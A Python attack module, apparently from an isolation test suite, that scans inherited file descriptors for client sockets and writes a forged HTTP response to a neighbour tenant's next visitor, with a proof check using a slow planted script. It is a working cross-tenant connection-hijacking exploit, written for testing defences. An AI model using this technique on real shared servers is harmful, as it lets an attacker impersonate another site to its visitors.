"""Wait for the worker's next connection, and answer it."""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from workloads.attacks.scene import Given, Scene


def attack(given: Given) -> object:
    import os
    import socket
    import threading
    import time

    word = given.token.encode()
    answer = b"HTTP/1.1 200 OK\r\nConnection: close\r\nContent-Length: 16\r\n\r\n" + word

    def own() -> set[tuple[int, int]]:
        found = set()
        for number in range(3, 32):
            try:
                connection = socket.socket(fileno=os.dup(number))
            except OSError:
                continue
            try:
                if connection.family == socket.AF_INET:
                    found.add((number, connection.getpeername()[1]))
            except OSError:
                continue
            finally:
                connection.close()
        return found

    before = own()
    if not before:
        raise PermissionError("none of its descriptors is a client's connection")

    def wait() -> None:
        deadline = time.monotonic() + 2
        while time.monotonic() < deadline:
            for number, _ in own() - before:
                try:
                    os.write(number, answer)
                except OSError:
                    continue
                return
            time.sleep(0.0005)

    threading.Thread(target=wait, daemon=True).start()
    return "waiting"


def proof(scene: Scene) -> str | None:
    scene.put(
        "slow.py",
        "import time\ntime.sleep(0.2)\nprint('Content-Type: text/plain\\n\\nslow')\n",
    )
    for _ in range(2):
        if scene.token.encode() in scene.visit("slow.py").raw:
            return "the neighbour's visitor was answered by the attacker"
    return None
